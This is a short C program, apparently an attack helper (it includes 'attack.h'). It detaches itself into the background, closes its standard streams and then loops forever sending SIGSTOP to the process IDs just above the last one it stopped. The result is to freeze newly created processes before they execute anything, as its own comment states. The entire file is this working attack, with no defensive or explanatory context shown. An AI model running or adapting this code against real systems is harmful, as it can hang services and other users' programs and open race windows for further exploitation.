/* In the background: stop whatever process gets the next number, before it has executed anything. */
#include "attack.h"

int main(void) {
    if (fork()) _exit(0);
    setsid();
    for (int stream = 0; stream < 3; stream++) close(stream);
    usleep(200000);
    for (pid_t last = getpid();;)
        for (pid_t next = last + 1; next < last + 6; next++)
            if (kill(next, SIGSTOP) == 0) last = next;
}
